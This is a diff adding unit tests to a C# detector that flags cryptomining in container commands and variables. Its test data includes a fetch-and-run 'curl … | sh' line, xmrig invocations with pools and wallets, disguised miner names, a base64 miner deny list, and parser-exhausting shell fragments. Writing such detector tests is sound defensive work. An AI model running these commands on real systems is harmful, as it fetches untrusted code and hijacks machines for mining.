@@ -69,6 +69,17 @@ public sealed class CryptominingCommandsTests
         Assert.NotEqual("", match.WhyPossible);
     }
 
+    [Theory]
+    [InlineData("--nicehash", "curl -s https://example.com/i.sh | sh")]
+    [InlineData("--coin XMR", "--payout " + Wallet)]
+    [InlineData("-o pool.example.com:3333", "sysctl vm.nr_hugepages=9")]
+    [InlineData("-o pool.example.com:5432", "-u " + Wallet)]
+    public void SignalsThatDoNotFitAreNotEachOthersCompany(string one, string other) => Assert.IsType<Verdict.Clean>(Judge(one, other));
+
+    [Fact]
+    public void APoolAndAWalletArePossibleThoughBothHaveOtherUses() =>
+        Assert.Equal("pool-flag, wallet-ethereum", Found(Judge("-S", "pool.example.com:9999", "-O", "0x0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a.rig")).Indicator);
+
     [Fact]
     public void AMediumAndAWeakSignalArePossible() => Assert.Equal(Certainty.Possible, Found(Judge("--nicehash", "-t", "$(nproc)")).Certainty);
 
@@ -127,7 +138,7 @@ public sealed class CryptominingCommandsTests
     {
         var match = Found(JudgeVariables(Some.Variable("POOL_URL", "ssl://me:hidden@xmr.example.com:443"), Some.Variable("DONATE_LEVEL", "1")));
 
-        Assert.Equal(["POOL_URL=ssl://…xmr.example.com:443", "DONATE_LEVEL=1"], match.Evidence.Select(evidence => evidence.Text));
+        Assert.Equal(["DONATE_LEVEL=1", "POOL_URL=ssl://…xmr.example.com:443"], match.Evidence.Select(evidence => evidence.Text));
     }
 
     [Fact]
@@ -149,6 +160,54 @@ public sealed class CryptominingCommandsTests
         Assert.IsType<Verdict.Malicious>(Judge("--donate-level=1", tooLong));
         Assert.IsType<Verdict.Undecided>(JudgeVariables(Some.Variable("X", tooLong)));
     }
+
+    /// <summary>The shell takes quotes away and puts values in; the finding shows what comes out, and where it stood.</summary>
+    [Theory]
+    [InlineData("cd /t; ./xmrig -o S3CRET", "…xmrig…")]
+    [InlineData("cd /t; ./xm\"\"rig -o S3CRET", "…xmrig…")]
+    [InlineData("A=xm; B=rig; ./$A$B -o S3CRET", "…xmrig…")]
+    [InlineData("xmrig", "xmrig")]
+    public void AProgramIsShownByItsName(string script, string shown)
+    {
+        var evidence = Found(Judge("sh", "-c", script)).Evidence[0];
+
+        Assert.Equal((shown, $"{Some.Specification}.args[2]"), (evidence.Text, evidence.Place));
+    }
+
+    [Fact]
+    public void AListOfManyProgramsInBase64IsNoScript()
+    {
+        Assert.IsType<Verdict.Clean>(JudgeVariables(Some.Variable("DENY", Base64("xmrig\nminerd\ncpuminer\nlolminer"))));
+        Assert.IsType<Verdict.Malicious>(JudgeVariables(Some.Variable("RUN", Base64("./xmrig || ./minerd || ./cpuminer"))));
+    }
+
+    /// <summary>Each of these would take the reader long, or run out of stack or memory, if nothing bounded it.</summary>
+    [Theory]
+    [InlineData("echo 'sh f; sh f; sh f; sh f' > f; sh f", 1)]
+    [InlineData("eval ", 12_000)]
+    [InlineData("$(", 30_000)]
+    [InlineData("`", 60_000)]
+    [InlineData("(", 60_000)]
+    [InlineData("\"$(", 20_000)]
+    [InlineData("${", 30_000)]
+    [InlineData("<<A ", 15_000)]
+    [InlineData("<<A\n", 15_000)]
+    [InlineData("case a in ", 6_000)]
+    [InlineData("A=$A$A$A;", 7_000)]
+    [InlineData("for a in b; do c $a; done;", 2_400)]
+    [InlineData("sh -c '", 9_000)]
+    [InlineData("x|", 30_000)]
+    [InlineData("f(){", 15_000)]
+    public async Task AHostileScriptIsReadInTime(string part, int times)
+    {
+        var script = string.Concat(Enumerable.Repeat(part, times)) + " pool kill";
+
+        Assert.NotNull(await Task.Run(() => Judge("sh", "-c", script)).WaitAsync(TimeSpan.FromSeconds(20), TestContext.Current.CancellationToken));
+    }
+
+    [Fact]
+    public void WhatIsNestedTooDeepIsUndecided() =>
+        Assert.Contains("scripts within scripts", Assert.IsType<Verdict.Undecided>(Judge("sh", "-c", "echo 'sh f' > f; sh f")).Reason, StringComparison.Ordinal);
 
     [Fact]
     public void NoSecretLeavesWithTheEvidence()
@@ -183,6 +242,15 @@ public sealed class CryptominingCommandsTests
     [Fact]
     public void AnyTextIsJudgedWithoutAFault() =>
         Gen.String.Array[0, 8].Sample(args => Judge([.. args, "'", "\"", "`|(;&$(", "://:@."]) is not null, iter: 2_000);
+
+    /// <summary>Pieces of scripts in any mixture: nothing makes the reader fail.</summary>
+    [Fact]
+    public void AnyScriptIsReadWithoutAFault()
+    {
+        string[] pieces = ["'", "\"", "`", "$(", ")", "(", "|", ";", "&", "<", ">", "<<A", "\nA\n", "$'\\x", "\\", "${A:-", "}", "$A", "case ", " in ", "esac", "xmrig", " ", "=", "kill ", "sh -c ", "eval ", "#", "pool", "A=xmrig;"];
+
+        Gen.Int[0, pieces.Length - 1].Select(index => pieces[index]).Array[0, 30].Sample(parts => Judge("bash", "-c", string.Concat(parts)) is not null, iter: 5_000);
+    }
 
     static string Base64(string text) => Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes(text));
 }
